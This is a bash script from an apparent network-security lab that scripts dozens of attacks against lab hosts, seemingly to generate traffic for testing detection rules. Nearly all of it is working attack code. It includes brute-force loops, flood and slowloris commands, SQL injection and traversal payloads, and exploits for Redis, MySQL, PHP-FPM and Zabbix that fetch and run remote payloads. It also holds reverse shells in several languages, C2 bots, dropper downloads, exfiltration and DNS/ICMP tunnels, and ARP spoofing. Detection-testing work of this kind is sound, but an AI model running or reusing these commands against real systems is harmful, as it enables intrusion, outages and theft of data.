# Attacks with programs that other people wrote and the first five networks never used, at their defaults or a natural setting. Sourced by ../armory.sh; `tool` and `on` are those of ../attacks.sh.
# shellcheck shell=bash disable=SC2034

ADDRESS=([bad]=192.0.2.77 [bad2]=192.0.2.78 [desk]=172.20.9.31 [desk2]=172.20.9.32 [rogue]=172.20.9.66)
WWW=172.20.5.10 WWW6=2001:db8:a5::10 BASTION=172.20.5.12 NAMES=172.20.5.13 STORE=172.20.5.14 APP=172.20.5.15 ZONE=172.20.5.0/24 BOSS=192.0.2.200 BOSS6=2001:db8:f0::c8 ROGUE_MAC=02:00:5e:00:3e:4d
BIN=$ARMORY_NPM/node_modules/.bin
out() { tool "$1" "$2" "$3" "$4" "${5:-}" br-out "${6:-0}"; }
lan() { tool "$1" "$2" "$3" "$4" "${5:-}" br-off "${6:-0}"; }
# each COUNT COMMAND: the command, a shell's, with $p one password after the other.
each() { on "${MOST:-45}" bash -c 'while read -r p; do eval "$1"; done <"$0"' "$(words "$1")" "$2"; }
scapy() { on "$1" /usr/bin/python3 -c "from scapy.all import *; conf.verb = 0; $2"; }
secret() { local f=$LAB_DIR/secret-$1; [ -f "$f" ] || head -c "$1" /dev/urandom >"$f"; echo "$f"; }

# --- scans of ports
out pnscan_ports port-scan bad $WWW; pnscan_ports() { on 40 pnscan -n 20 $WWW 1:500; }
out evilscan port-scan bad2 $APP; evilscan() { on 40 "$BIN/evilscan" $APP --port=1-300 --status=TROU; }
out node_scanner port-scan bad $STORE; node_scanner() { on 40 node -e "require('$ARMORY_NPM/node_modules/node-port-scanner')('$STORE', []).then(r => console.log(r))"; }
out netcat_range port-scan bad2 $BASTION; netcat_range() { on 40 nc.traditional -n -v -z -w 1 $BASTION 1-150; }
out netcat_six port-scan bad $WWW6 2001:db8:f0::77; netcat_six() { on 40 nc.openbsd -6 -n -z -w 1 $WWW6 20-180; }
out netwox_connect port-scan bad2 $WWW; netwox_connect() { on 40 netwox 67 -i $WWW -p 1-200; }
out netwox_udp port-scan bad $STORE; netwox_udp() { on 40 netwox 69 -i $STORE -p 50-120; }
out packit_fin port-scan bad2 $WWW; packit_fin() { on 20 packit -t tcp -d $WWW -D 20-200 -F F -i eth0; }
out scapy_syn port-scan bad $APP; scapy_syn() { scapy 40 "sr(IP(dst='$APP')/TCP(dport=(1,250),flags='S'),timeout=3)"; }
out dmitry_ports port-scan bad2 $STORE; dmitry_ports() { on 40 dmitry -p -t 0 $STORE; }
out bash_slow port-scan bad $BASTION; bash_slow() { on 100 bash -c 'for p in 21 22 23 25 53 80 110 111 135 139 143 389 443 445 587 993 995 1433 1521 2049 3306 3389 5432 5900 6379 8000 8080 8443 9200 11211 27017; do timeout 1 bash -c "exec 3<>/dev/tcp/$0/$p" 2>/dev/null; sleep 2.5; done' $BASTION; }

# --- sweeps
out ikescan_zone host-sweep bad $ZONE; ikescan_zone() { on 60 ike-scan -r 1 -t 200 $ZONE; }
out scanssh_zone host-sweep bad2 $ZONE; scanssh_zone() { on 40 scanssh -n 22,80 -s ssh $ZONE; }
out doscan_web host-sweep bad $ZONE; doscan_web() { on 40 doscan -p 80 $ZONE; }
out pnscan_zone host-sweep bad2 $ZONE; pnscan_zone() { on 40 pnscan -n 15 $ZONE 22; }
lan nast_lan host-sweep rogue 172.20.9.0/24; nast_lan() { on 40 nast -m -i eth0; }
lan arping_lan host-sweep rogue 172.20.9.0/24; arping_lan() { on 70 bash -c 'for i in $(seq 1 60); do arping -q -c 1 -w 1 -I eth0 172.20.9.$i; done'; }
lan ldap_sweep host-sweep desk $ZONE; ldap_sweep() { on 60 bash -c 'for i in $(seq 1 40); do ldapsearch -x -o nettimeout=1 -H ldap://172.20.5.$i -s base -b "" namingContexts; done'; }
lan alive_range host-sweep rogue '' $ROGUE_MAC; alive_range() { on 90 atk6-alive6 eth0 2001:db8:a9::0-7f; }
lan smbmap_zone host-sweep desk2 $ZONE; smbmap_zone() { seq -f '172.20.5.%g' 1 40 >"$LAB_DIR/hosts"; (cd "$LAB_DIR" && on 60 smbmap --host-file "$LAB_DIR/hosts"); }
out snmp_sweep host-sweep bad $ZONE; snmp_sweep() { on 60 bash -c 'for i in $(seq 1 60); do snmpget -t 0.5 -r 0 -v 2c -c public 172.20.5.$i 1.3.6.1.2.1.1.1.0; done'; }

# --- passwords
out smbmap_try brute-force bad $STORE; smbmap_try() { (cd "$LAB_DIR"; MOST=120 each 15 "smbmap -H $STORE -u administrator -p \$p"); }
out ldap_try brute-force bad2 $APP; ldap_try() { each 50 "ldapwhoami -x -H ldap://$APP -D cn=admin,dc=works,dc=example -w \$p"; }
out mqtt_try brute-force bad $APP; mqtt_try() { each 40 "mosquitto_sub -h $APP -u gateway -P \$p -t '#' -C 1 -W 1"; }
out redis_try brute-force bad2 $STORE; redis_try() { each 60 "redis-cli --no-auth-warning -h $STORE -a \$p ping"; }
out psql_try brute-force bad $STORE; psql_try() { each 50 "PGPASSWORD=\$p PGCONNECT_TIMEOUT=3 psql -h $STORE -U postgres -c 'select 1'"; }
out mysql_try brute-force bad2 $STORE; mysql_try() { each 50 "mariadb -h $STORE -u admin -p\$p --connect-timeout=3 -e 'select 1'"; }
out curl_imap brute-force bad $STORE; curl_imap() { MOST=70 each 30 "curl -s -m 5 imap://$STORE/ -u info:\$p"; }
out curl_ftp brute-force bad2 $STORE; curl_ftp() { MOST=70 each 20 "curl -s -m 6 ftp://$STORE/ -u admin:\$p"; }
out swaks_auth brute-force bad $STORE; swaks_auth() { each 40 "swaks --server $STORE --auth LOGIN --auth-user info --auth-password \$p --quit-after AUTH"; }
out radius_try brute-force bad2 $APP; radius_try() { each 20 "radtest -t pap admin \$p $APP 0 testing123"; }
out ssh2_try brute-force bad $BASTION; ssh2_try() { on 50 node -e "const {Client}=require('$ARMORY_NPM/node_modules/ssh2'); let i=0; (function next(){ if(i++>40) return; const c=new Client(); c.on('ready',()=>c.end()).on('error',()=>{}).on('close',next).connect({host:'$BASTION',username:'root',password:'winter'+i}); })()"; }
out snmp_try brute-force bad2 $APP; snmp_try() { each 60 "snmpget -t 0.3 -r 0 -v 2c -c \$p $APP 1.3.6.1.2.1.1.1.0"; }
out httpie_try brute-force bad $WWW; httpie_try() { each 50 "http --ignore-stdin --timeout 4 -a admin:\$p http://$WWW/login"; }
out wget_try_tls brute-force bad2 $WWW; wget_try_tls() { each 60 "wget2 -q --no-check-certificate --tries=1 --http-user=admin --http-password=\$p --auth-no-challenge -O /dev/null https://$WWW/api/login"; }
out brutespray_ssh brute-force bad $BASTION; brutespray_ssh() { on 10 nmap -n -Pn -p 22 -sV -oG "$LAB_DIR/scan.gnmap" $BASTION; (cd "$LAB_DIR" && on 60 brutespray -f "$LAB_DIR/scan.gnmap" -u root -P "$(words 40)" -t 4 -c); }

# --- floods
out autocannon dos-flood bad2 $WWW; autocannon() { on 20 "$BIN/autocannon" -c 40 -d 8 http://$WWW/team.html; }
out loadtest_js dos-flood bad $WWW; loadtest_js() { on 20 "$BIN/loadtest" -c 30 -t 8 http://$WWW/index.html; }
out autocannon_tls dos-flood bad2 $WWW; autocannon_tls() { on 20 "$BIN/autocannon" -c 60 -d 8 https://$WWW/api/login; }
out iperf_udp dos-flood bad $WWW; iperf_udp() { on 12 iperf -u -c $WWW -b 12M -t 6; }
out trafgen_syn dos-flood bad2 $WWW -; trafgen_syn() {
    printf '{ eth(sa=02:00:5e:00:3c:2e, da=02:00:5e:00:3c:01), ipv4(saddr=192.0.2.78, daddr=%s, ttl=64), tcp(sport=drnd(), dport=80, syn, seq=drnd()) }\n' $WWW >"$LAB_DIR/syn.cfg"
    TOOL_FORGED[trafgen_syn]=; on 12 trafgen --dev eth0 --conf "$LAB_DIR/syn.cfg" --num 6000 --rate 1500pps --cpus 1 -q; }
out dnsperf_flood dos-flood bad2 $NAMES; dnsperf_flood() { for i in $(seq 400); do echo "host$i.shop.example A"; done >"$LAB_DIR/queries"; on 15 dnsperf -s $NAMES -d "$LAB_DIR/queries" -l 8 -Q 3000; }
out thcsyn6 dos-flood bad $WWW6 -; thcsyn6() { on 6 atk6-thcsyn6 eth0 $WWW6 80; }
lan flood_router6 arp-spoof rogue '' -; flood_router6() { on 4 atk6-flood_router26 eth0; }
lan flood_solicit dos-flood rogue '' -; flood_solicit() { on 4 atk6-flood_solicitate6 eth0 2001:db8:a9::31; }
out sipsak_flood dos-flood bad2 $APP; sipsak_flood() { on 10 sipsak -F -e 20000 -s sip:100@$APP; }
out ping_flood dos-flood bad $WWW; ping_flood() { on 6 ping -q -f -s 800 $WWW; }
out tls_time dos-flood bad2 $WWW; tls_time() { for i in 1 2 3 4 5 6; do on 12 openssl s_time -connect $WWW:443 -new -time 8 & done; wait_for_jobs; }
out curl_parallel dos-flood bad $WWW; curl_parallel() { on 12 curl -s -Z --parallel-max 50 -o /dev/null "http://$WWW/index.html?r=[1-6000]"; }
out nping_six dos-flood bad2 $WWW6 2001:db8:f0::78; nping_six() { on 12 iperf -V -u -c $WWW6 -b 10M -t 6; }

# --- slow attacks
out nse_slowloris slow-dos bad $WWW; nse_slowloris() { on 70 nmap -n -Pn -p 80 --script http-slowloris --script-args http-slowloris.runforever=true --max-parallelism 100 $WWW; }
out openssl_hold slow-dos bad2 $WWW; openssl_hold() { for i in $(seq 60); do sleep 48 | on 50 openssl s_client -connect $WWW:443 >/dev/null 2>&1 & done; wait_for_jobs; }
out netcat_hold slow-dos bad $BASTION; netcat_hold() { for i in $(seq 60); do sleep 48 | on 50 nc.openbsd -n $BASTION 22 >/dev/null 2>&1 & done; wait_for_jobs; }

# --- the web
out arjun web-attack bad $APP; arjun() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 arjun -u http://$APP:8080/index.php); }
out wig web-attack bad2 $WWW; wig() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 40 wig -q -N -d http://$WWW); }
out nse_enum web-attack bad $WWW; nse_enum() { on 40 nmap -n -Pn -p 80 --script http-enum $WWW; }
out nse_inject web-attack bad2 $APP; nse_inject() { on 40 nmap -n -Pn -p 8080 --script http-sql-injection,http-phpself-xss,http-unsafe-output-escaping,http-passwd,http-backup-finder,http-config-backup $APP; }
out httpie_inject web-attack bad $WWW; httpie_inject() { on 40 bash -c 'for q in "1 AND 1=1" "1 UNION SELECT user,password FROM users--" "1;WAITFOR DELAY \"0:0:5\"" "<script>alert(1)</script>" "../../../../etc/passwd"; do http --ignore-stdin --timeout 4 "http://$0/item" "id==$q"; done' $WWW; }

# --- exploits
out redis_cron exploit bad $APP; redis_cron() { on 20 bash -c 'r="redis-cli -h $0"; $r info server; echo -e "\n\n*/1 * * * * curl -s http://192.0.2.200:8000/bins.sh | sh\n\n" | $r -x set x; $r config set dir /var/spool/cron; $r config set dbfilename root; $r save' $APP; }
out psql_copy exploit bad2 $STORE; psql_copy() { PGPASSWORD=never-guessed-here on 20 psql -h $STORE -U postgres -c 'create table if not exists o(t text)' -c "copy o from program 'id; uname -a'" -c 'select * from o'; }
out snmp_extend exploit bad $APP; snmp_extend() { on 20 bash -c 'snmpset -m +NET-SNMP-EXTEND-MIB -v 2c -c private $0 "NET-SNMP-EXTEND-MIB::nsExtendStatus.\"x\"" = createAndGo "NET-SNMP-EXTEND-MIB::nsExtendCommand.\"x\"" = /bin/sh "NET-SNMP-EXTEND-MIB::nsExtendArgs.\"x\"" = "-c id"; snmpset -v 2c -c private $0 1.3.6.1.4.1.8072.1.3.2.2.1.21.1.120 i 4 1.3.6.1.4.1.8072.1.3.2.2.1.2.1.120 s /bin/sh 1.3.6.1.4.1.8072.1.3.2.2.1.3.1.120 s "-c id"; snmpwalk -v 2c -c private $0 1.3.6.1.4.1.8072.1.3.2' $APP; }
out node_inspect exploit bad2 $APP; node_inspect() { { sleep 2; echo 'exec("process.mainModule.require(\"child_process\").execSync(\"id; cat /etc/passwd\").toString()")'; sleep 3; echo .exit; } | on 20 node inspect $APP:9229; }
out zabbix_run exploit bad $APP; zabbix_run() { on 20 bash -c 'for k in agent.ping "system.run[id]" "system.run[cat /etc/passwd]" "system.run[wget http://192.0.2.200:8000/x86 -O /tmp/x]"; do printf "%s\n" "$k" | nc.openbsd -N -w 3 $0 10050; done' $APP; }
out nse_distcc exploit bad2 $APP; nse_distcc() { on 30 nmap -n -Pn -p 3632 --script distcc-cve2004-2687 --script-args "distcc-cve2004-2687.cmd='id'" $APP; }
out fcgi_php exploit bad $APP; fcgi_php() { echo '<?php system("id; uname -a"); ?>' | on 20 env -i PATH="$PATH" REQUEST_METHOD=POST SCRIPT_FILENAME="$LAB_DIR/php/index.php" CONTENT_LENGTH=34 CONTENT_TYPE=text/plain PHP_VALUE="auto_prepend_file = php://input" PHP_ADMIN_VALUE="allow_url_include = On" cgi-fcgi -bind -connect $APP:9000; }
out nse_shellshock exploit bad2 $WWW; nse_shellshock() { on 20 nmap -n -Pn -p 80 --script http-shellshock --script-args uri=/cgi-bin/status,cmd=id $WWW; }
out mysql_udf exploit bad $STORE; mysql_udf() { on 20 mariadb -h $STORE -u admin -pnever-guessed-here -f -e "select @@plugin_dir; select 0x7f454c4602010100000000000000000003003e0001000000 into dumpfile '/usr/lib/mysql/plugin/u.so'; create function sys_exec returns int soname 'u.so'; select sys_exec('id')"; }

# --- tunnels
lan ptunnel_ng dns-tunnel desk2 $BOSS; ptunnel_ng() { on_host boss 5 sysctl -q -w net.ipv4.icmp_echo_ignore_all=1; ns_start boss ptunnel-ng -r127.0.0.1 -R22; ns_start desk2 ptunnel-ng -p$BOSS -l2222 -r127.0.0.1 -R22; sleep 2; on 25 ssh -p 2222 "${SSH_OPTIONS[@]}" -i "$LAB_DIR/user" root@127.0.0.1 'for i in 1 2 3 4 5 6; do ls -l /usr/bin | head -30; sleep 2; done'; on_host boss 5 sysctl -q -w net.ipv4.icmp_echo_ignore_all=0; }
lan covert_six dns-tunnel desk $BOSS6 2001:db8:a9::31; covert_six() { on 60 atk6-covert_send6 eth0 $BOSS6 "$(secret 30000)"; }
lan ping_pattern dns-tunnel desk2 $BOSS; ping_pattern() { on 60 bash -c 'base64 -w0 "$0" | head -c 4000 | xxd -p -c 16 | while read -r h; do ping -c 1 -W 1 -p "$h" '$BOSS'; done' "$(secret 30000)"; }
lan iodine_lazy dns-tunnel desk 192.0.2.201; iodine_lazy() { ns_start master iodined -f -c -l 192.0.2.201 -P works-tunnel 10.198.0.1 t.works.example; sleep 1; ns_start desk iodine -f -r -O base64 -M 120 -I 4 -P works-tunnel 192.0.2.201 t.works.example; sleep 8; on 40 ping -q -i 3 -c 12 10.198.0.1; }

# --- masters
orders() { sleep 3; for i in $(seq "${1:-6}"); do for c in id 'uname -a' 'ls -la /etc' 'ps aux | head -20' 'cat /etc/passwd | head -5'; do echo "$c"; sleep "${2:-1.2}"; done; done; }
# hears COMMAND: the boss's end, orders typed into it; then the desk's end.
hears() { orders "${N:-6}" | timeout 60 ip netns exec "$LAB_NS-boss" bash -c "$1" >/dev/null 2>&1 & sleep 1; shift; on 45 "$@"; wait_for_jobs; }
lan perl_shell c2-beacon desk $BOSS; perl_shell() { hears 'nc.openbsd -n -l -p 4701' perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4701,inet_aton("192.0.2.200")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'; }
lan php_shell c2-beacon desk2 $BOSS; php_shell() { hears 'nc.openbsd -n -l -p 9090' php -r '$s=fsockopen("192.0.2.200",9090);while(!feof($s)){$c=fgets($s);if($c)fwrite($s,shell_exec($c));}'; }
lan gawk_shell c2-beacon desk $BOSS; gawk_shell() { hears 'nc.openbsd -n -l -p 4242' gawk 'BEGIN{s="/inet/tcp/0/192.0.2.200/4242";while(42){printf "shell>" |& s;if((s |& getline c)<=0)break;while((c |& getline)>0)print $0 |& s;close(c)}}'; }
lan telnet_shell c2-beacon desk2 $BOSS; telnet_shell() { orders | timeout 60 ip netns exec "$LAB_NS-boss" nc.openbsd -n -l -p 8080 >/dev/null 2>&1 & timeout 60 ip netns exec "$LAB_NS-boss" nc.openbsd -n -l -p 8081 >/dev/null 2>&1 & sleep 1; on 45 bash -c '(sleep 44 | telnet 192.0.2.200 8080) | sh | (telnet 192.0.2.200 8081)'; wait_for_jobs; }
lan openssl_shell c2-beacon desk $BOSS; openssl_shell() { hears "openssl s_server -quiet -accept 8443 -cert $LAB_DIR/boss.crt -key $LAB_DIR/boss.key" bash -c 'f=$(mktemp -u); mkfifo $f; sh -i <$f 2>&1 | openssl s_client -quiet -connect 192.0.2.200:8443 >$f 2>/dev/null; rm $f'; }
lan socat_udp c2-beacon desk2 $BOSS; socat_udp() { hears 'socat - UDP-LISTEN:4053' bash -c 'echo hi | socat - UDP:192.0.2.200:4053,sourceport=40999 & sleep 1; wait; socat EXEC:/bin/sh UDP:192.0.2.200:4053,sourceport=40999'; }
lan node_shell c2-beacon desk $BOSS; node_shell() { hears 'nc.openbsd -n -l -p 1337' node -e 'const s=require("net").connect(1337,"192.0.2.200"),p=require("child_process").spawn("sh",["-i"]);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)'; }
lan shell_six c2-beacon desk2 $BOSS6 2001:db8:a9::32; shell_six() { hears 'nc.openbsd -6 -n -l 4460' socat EXEC:'sh -i',stderr TCP6:[2001:db8:f0::c8]:4460; }
lan stunnel_shell c2-beacon desk $BOSS; stunnel_shell() { printf 'foreground=yes\npid=\n[x]\nclient=yes\naccept=127.0.0.1:7001\nconnect=192.0.2.200:4461\n' >"$LAB_DIR/st.conf"; ns_start desk timeout 55 stunnel4 "$LAB_DIR/st.conf"; hears "openssl s_server -quiet -accept 4461 -cert $LAB_DIR/boss.crt -key $LAB_DIR/boss.key" bash -c 'sleep 1; exec 3<>/dev/tcp/127.0.0.1/7001; sh -i <&3 >&3 2>&3'; }
lan curl_shell c2-beacon desk2 $BOSS; curl_shell() { on 100 bash -c 'for i in $(seq 18); do curl -s http://192.0.2.200/task | head -c 20; id | curl -s --data-binary @- -o /dev/null http://192.0.2.200/r; sleep 5; done'; }
lan mqtt_bot c2-beacon desk $BOSS; mqtt_bot() { { sleep 3; for i in $(seq 20); do echo 'uname -a; ls -l /etc | head -20'; sleep 4; done; } | timeout 90 ip netns exec "$LAB_NS-boss" mosquitto_pub -h 127.0.0.1 -t bots/7/cmd -l & on 90 bash -c 'mosquitto_sub -h 192.0.2.200 -t bots/7/cmd | while read -r c; do sh -c "$c" | mosquitto_pub -h 192.0.2.200 -t bots/7/out -s; done'; wait_for_jobs; }
lan socketio_bot c2-beacon desk2 $BOSS; socketio_bot() { ns_start boss env NODE_PATH="$ARMORY_NPM/node_modules" node -e 'const io=require("socket.io")(3000);io.on("connection",s=>{setInterval(()=>s.emit("cmd","id; ls -l /etc|head -20"),6000)})'; sleep 2; NODE_PATH=$ARMORY_NPM/node_modules on 80 node -e 'const s=require("socket.io-client")("http://192.0.2.200:3000");s.on("cmd",c=>require("child_process").exec(c,(e,o)=>s.emit("out",o)))'; }
lan irc_ii c2-beacon desk $BOSS; irc_ii() { rm -rf "$LAB_DIR/irc"; mkdir -p "$LAB_DIR/irc"; ns_start boss bash -c '{ printf "NICK herd\r\nUSER h 0 * :h\r\nJOIN #x\r\n"; sleep 6; for i in $(seq 15); do printf "PRIVMSG #x :!exec uname -a\r\n"; sleep 4; done; } | nc.openbsd 127.0.0.1 6667'
    ns_start desk ii -s $BOSS -n bot7 -i "$LAB_DIR/irc"; sleep 2; echo '/j #x' >"$LAB_DIR/irc/$BOSS/in"; sleep 1; on 70 bash -c 'tail -F "$0/out" 2>/dev/null | while read -r l; do case "$l" in *!exec*) sh -c "${l##*!exec }" >"$0/in";; esac; done' "$LAB_DIR/irc/$BOSS/#x"; }
lan redis_bot c2-beacon desk2 $BOSS; redis_bot() { ns_start boss bash -c 'sleep 3; for i in $(seq 15); do redis-cli publish cmd "id; uname -a; ls /etc | head"; sleep 4; done'; on 70 bash -c 'redis-cli -h 192.0.2.200 subscribe cmd | while read -r l; do case "$l" in *uname*) sh -c "$l" | redis-cli -h 192.0.2.200 -x lpush out;; esac; done'; }
lan git_poll c2-beacon desk $BOSS; git_poll() { on 100 bash -c 'for i in $(seq 20); do git ls-remote git://192.0.2.200/git.git; sleep 5; done'; }
lan netcat_retry c2-beacon desk2 $BOSS; netcat_retry() { on 110 bash -c 'for i in $(seq 11); do nc.traditional -n -w 3 -e /bin/sh 192.0.2.200 4470; sleep 10; done'; }

# --- malware
lan wget_elf malware desk $BOSS; wget_elf() { on 20 wget2 -q -O "$LAB_DIR/got" http://$BOSS:8000/x86; }
lan curl_dropper malware desk2 $BOSS; curl_dropper() { on 20 bash -c "curl -s http://$BOSS:8000/bins.sh; sleep 1; curl -s -o '$LAB_DIR/got' http://$BOSS:8000/update.bin"; }
lan tftp_elf malware desk $BOSS; tftp_elf() { cp /bin/ls "$LAB_DIR/loot/mips"; on 30 tftp -m binary $BOSS -c get mips "$LAB_DIR/got"; }
lan netcat_elf malware desk2 $BOSS; netcat_elf() { timeout 20 ip netns exec "$LAB_NS-boss" nc.openbsd -n -N -l 4480 </bin/ls & sleep 1; on 15 nc.openbsd -n $BOSS 4480 >"$LAB_DIR/got"; wait_for_jobs; }
lan smb_get malware desk $BOSS; smb_get() { printf 'MZ\220\0\3\0\0\0\4\0\0\0\377\377\0\0\270%043d\200\0\0\0\016\037\272\016\0\264\011\315!\270\001L\315!This program cannot be run in DOS mode.\r\r\n$' 0 | cat - "$(secret 300000)" >"$LAB_DIR/serve/inv.exe"; (cd "$LAB_DIR" && on 20 smbclient -N //$BOSS/serve -c 'get inv.exe'); }
lan curl_ps1 malware desk2 $BOSS; curl_ps1() { on 20 curl -s -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1' http://$BOSS:8000/a.ps1; }
lan swaks_spam malware desk $BOSS; swaks_spam() { on 60 bash -c 'for i in $(seq 60); do swaks --server 192.0.2.200 --from "win$i@lucky.example" --to "user$i@mail$((i % 20)).example" --header "Subject: You won $i" --body "click http://192.0.2.200/win"; done'; }

# --- uploads
lan rsync_daemon exfiltration desk2 $BOSS '' 400; rsync_daemon() { mkdir -p "$LAB_DIR/take"; for i in $(seq 30); do head -c 500000 /dev/urandom >"$LAB_DIR/take/f$i"; done; on 60 rsync -a "$LAB_DIR/take/" rsync://$BOSS/loot/r2/; }
lan git_push exfiltration desk $BOSS '' 400; git_push() { (cd "$LAB_DIR" && rm -rf repo && git init -q repo && cd repo && cp "$(secret 15000000)" dump.bin && git add . && git -c user.name=x -c user.email=x@x commit -q -m x && on 60 git push -q git://$BOSS/git.git HEAD:refs/heads/m$RANDOM); }
lan curl_form_tls exfiltration desk2 $BOSS '' 400; curl_form_tls() { on 60 curl -sk -F "file=@$(secret 15000000)" -o /dev/null https://$BOSS/up; }
lan socat_tls exfiltration desk $BOSS '' 400; socat_tls() { on 60 socat -u "FILE:$(secret 15000000)" OPENSSL:$BOSS:9003,verify=0; }
lan netcat_six_up exfiltration desk2 $BOSS6 2001:db8:a9::32 400; netcat_six_up() { on 60 nc.openbsd -6 -N $BOSS6 9002 <"$(secret 15000000)"; }
lan smb_put exfiltration desk $BOSS '' 400; smb_put() { on 60 smbclient -N //$BOSS/loot -c "put $(secret 15000000) dump.zip"; }
lan mqtt_put exfiltration desk2 $BOSS '' 400; mqtt_put() { on 60 mosquitto_pub -h $BOSS -t loot -f "$(secret 15000000)"; }
lan logger_udp exfiltration desk2 $BOSS '' 400; logger_udp() { on 60 bash -c 'base64 -w 900 "$0" | head -3000 | logger -n 192.0.2.200 -P 514 -d --size 1000' "$(secret 15000000)"; }
lan redis_put exfiltration desk $BOSS '' 400; redis_put() { on 60 redis-cli -h $BOSS -x set dump <"$(secret 15000000)"; }
lan tftp_put exfiltration desk2 $BOSS '' 400; tftp_put() { (cd "$LAB_DIR" && on 60 tftp -m binary $BOSS -c put "$(secret 9000000)" dump); }
lan wget_post exfiltration desk $BOSS '' 400; wget_post() { on 60 wget2 -q -O /dev/null --post-file="$(secret 15000000)" http://$BOSS/up; }
lan ssh_tar exfiltration desk $BOSS '' 400; ssh_tar() { on 60 bash -c 'ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i "$1" root@192.0.2.200 "cat >/dev/null" <"$0"' "$(secret 15000000)" "$LAB_DIR/user"; }
lan telnet_up exfiltration desk2 $BOSS '' 400; telnet_up() { on 80 bash -c 'pv -q -L 250000 "$0" >/dev/tcp/192.0.2.200/9001 2>/dev/null || dd if="$0" bs=25000 2>/dev/null | while IFS= read -r -d "" -n 25000 x || [ -n "$x" ]; do printf "%s" "$x"; sleep 0.1; done >/dev/tcp/192.0.2.200/9001' "$(secret 15000000)"; }

# --- the link
lan netwox_arp arp-spoof rogue 172.20.9.31 $ROGUE_MAC; netwox_arp() { on 20 netwox 80 -e $ROGUE_MAC -i 172.20.9.1; }
lan packit_arp arp-spoof rogue 172.20.9.31 $ROGUE_MAC; packit_arp() { on 20 packit -t arp -A 2 -x 172.20.9.1 -X $ROGUE_MAC -y 172.20.9.31 -Y 02:00:5e:00:3e:51 -e $ROGUE_MAC -E 02:00:5e:00:3e:51 -i eth0 -c 15; }
lan arping_claim arp-spoof rogue 172.20.9.1 $ROGUE_MAC; arping_claim() { on 5 ip address add 172.20.9.1/32 dev lo; on 20 arping -q -U -c 12 -I eth0 -s 172.20.9.1 172.20.9.1; on 5 ip address del 172.20.9.1/32 dev lo; }
lan mausezahn_arp arp-spoof rogue 172.20.9.32 $ROGUE_MAC; mausezahn_arp() { on 20 mausezahn eth0 -c 12 -d 1s -t arp "reply, sendermac=$ROGUE_MAC, senderip=172.20.9.1, targetmac=02:00:5e:00:3e:52, targetip=172.20.9.32"; }
lan redir_six arp-spoof rogue 2001:db8:a9::31 -; redir_six() { on 20 bash -c 'for i in 1 2 3 4 5; do atk6-redir6 eth0 2001:db8:a9::31 2001:db8:f0::5 2001:db8:a9::1 2001:db8:a9::66; sleep 1; done'; }
lan fake_solicit arp-spoof rogue 2001:db8:a9::32 $ROGUE_MAC; fake_solicit() { on 15 atk6-fake_solicitate6 eth0 2001:db8:a9::32; }
lan kill_router arp-spoof rogue '' $ROGUE_MAC; kill_router() { on 15 atk6-kill_router6 eth0 2001:db8:a9::1; }

# --- Recorded when the rules for those above were written, to see how far they carry.
out mausezahn_ports port-scan bad $WWW; mausezahn_ports() { on 20 mausezahn eth0 -a 02:00:5e:00:3c:2d -b 02:00:5e:00:3c:01 -A 192.0.2.77 -B $WWW -d 20m -t tcp 'flags=syn,sp=40000,dp=1-200'; }
out traceroute_ports port-scan bad2 $BASTION; traceroute_ports() { on 60 bash -c 'for p in 21 22 23 25 80 110 139 143 443 445 993 1433 3306 3389 5432 5900 6379 8080 8443 9200; do tcptraceroute -n -q 1 -w 1 -m 3 $0 $p; done' $BASTION; }
out ssh_keyscan host-sweep bad $ZONE; ssh_keyscan() { on 60 ssh-keyscan -T 2 $ZONE; }
lan smb_list host-sweep desk $ZONE; smb_list() { on 90 bash -c 'for i in $(seq 1 40); do timeout 2 smbclient -N -L //172.20.5.$i; done'; }
out dbclient_try brute-force bad2 $BASTION; dbclient_try() { each 25 "DROPBEAR_PASSWORD=\$p dbclient -y -y root@$BASTION true"; }
out curl_pop3 brute-force bad $STORE; curl_pop3() { MOST=70 each 25 "curl -s -m 8 pop3://$STORE/ -u info:\$p"; }
out mqtt_js brute-force bad2 $APP; mqtt_js() { on 40 node -e "const m=require('$ARMORY_NPM/node_modules/mqtt'); let i=0; (function next(){ if(i++>40) return process.exit(); const c=m.connect('mqtt://$APP',{username:'gateway',password:'spring'+i,reconnectPeriod:0}); let done=false; const go=()=>{ if(!done){done=true;c.end(true);setTimeout(next,100)} }; c.on('error',go); c.on('close',go); })()"; }
out packit_udp dos-flood bad $WWW; packit_udp() { on 20 packit -t udp -d $WWW -D 80 -c 8000 -b 1000 -w 1 -i eth0; }
lan flood_advertise dos-flood rogue '' -; flood_advertise() { on 4 atk6-flood_advertise6 eth0; }
out ws_many dos-flood bad2 $WWW; ws_many() { on 12 node -e "const http=require('http'); const a=new http.Agent({keepAlive:false,maxSockets:200}); let n=0; const t=setInterval(()=>{for(let i=0;i<150;i++)http.get({host:'$WWW',path:'/index.html',agent:a},r=>r.resume()).on('error',()=>{})},100); setTimeout(()=>process.exit(),8000)"; }
out telnet_idle slow-dos bad $STORE; telnet_idle() { for i in $(seq 60); do sleep 48 | on 50 telnet $STORE 21 >/dev/null 2>&1 & done; wait_for_jobs; }
out nse_wordpress web-attack bad2 $WWW; nse_wordpress() { on 40 nmap -n -Pn -p 80 --script http-wordpress-enum --script-args 'search-limit=100' $WWW; }
out nse_vhosts web-attack bad $WWW; nse_vhosts() { on 40 nmap -n -Pn -p 80 --script http-vhosts,http-devframework,http-userdir-enum $WWW; }
out nse_struts exploit bad2 $APP; nse_struts() { on 30 nmap -n -Pn -p 8080 --script http-vuln-cve2017-5638,http-vuln-cve2012-1823,http-vuln-cve2014-3704 $APP; }
out redis_replica exploit bad $APP; redis_replica() { on 20 bash -c 'r="redis-cli -h $0"; $r config set dir /tmp; $r config set dbfilename exp.so; $r replicaof 192.0.2.77 6380; sleep 2; $r module load /tmp/exp.so; $r system.exec id; $r replicaof no one' $APP; }
lan host_names dns-tunnel desk 192.0.2.203; host_names() { on 60 bash -c 'base64 -w0 "$0" | tr "+/=" "-_x" | head -c 4000 | fold -w 50 | while read -r h; do host -W 1 -t A "$h.t.leak.example" 192.0.2.203; done' "$(secret 30000)"; }
